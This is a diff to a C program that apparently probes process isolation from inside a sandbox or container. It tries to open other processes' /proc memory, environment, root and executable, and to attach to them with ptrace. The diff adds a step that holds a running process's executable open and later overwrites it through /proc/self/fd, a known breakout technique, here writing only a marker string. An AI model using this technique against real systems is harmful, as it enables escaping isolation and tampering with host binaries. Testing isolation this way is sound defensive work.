@@ -21,6 +21,8 @@ static const char* wanted;
 static FILE* output;
 static char lines[256][200];
 static int line_count;
+static int held[64];
+static int held_count;
 
 static void say(const char* format, ...) {
   char line[200];
@@ -79,6 +81,32 @@ static void try_to_open(int pid, const char* name, int flags, const char* what) 
   close(fd);
 }
 
+// The executable of a process that runs is busy. So it is held, and written once nobody runs it.
+static void hold_executable(int pid) {
+  const int fd = open(path_of(pid, "exe"), O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return;
+  if (held_count < 64 && is_ours(pid) == 1) {
+    held[held_count++] = fd;
+    say("executable held");
+  } else {
+    close(fd);
+  }
+}
+
+static void overwrite_held(void) {
+  for (int i = 0; i < held_count; ++i) {
+    char path[64];
+    snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
+    const int fd = open(path, O_WRONLY | O_CLOEXEC);
+    if (fd < 0) continue;
+    if (pwrite(fd, "overwritten", 11, 0) == 11) say("executable overwritten");
+    close(fd);
+  }
+  // How often it was tried.
+  fprintf(output, "round\n");
+  fflush(output);
+}
+
 static void try_to_trace(int pid) {
   if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return;
   ptrace(PTRACE_INTERRUPT, pid, 0, 0);
@@ -109,8 +137,7 @@ static void look_at_descriptors(int pid) {
 
 static void attack(int pid, int trace) {
   look_at_capabilities(pid);
-  try_to_open(pid, "exe", O_WRONLY, "executable opened for writing");
-  try_to_open(pid, "exe", O_RDONLY, "executable opened for reading");
+  hold_executable(pid);
   try_to_open(pid, "mem", O_RDWR, "memory opened");
   try_to_open(pid, "environ", O_RDONLY, "environment opened");
   try_to_open(pid, "root/proc", O_RDONLY, "root opened");
@@ -128,6 +155,7 @@ int main(int argc, char** argv) {
   int newest = own;
   say("ready");
   for (unsigned round = 0;; ++round) {
+    if (round % 16384 == 0) overwrite_held();
     // Pids of a namespace come one after the other.
     for (int pid = newest > 8 ? newest - 8 : 2; pid <= newest + 16; ++pid) {
       if (pid == own) continue;
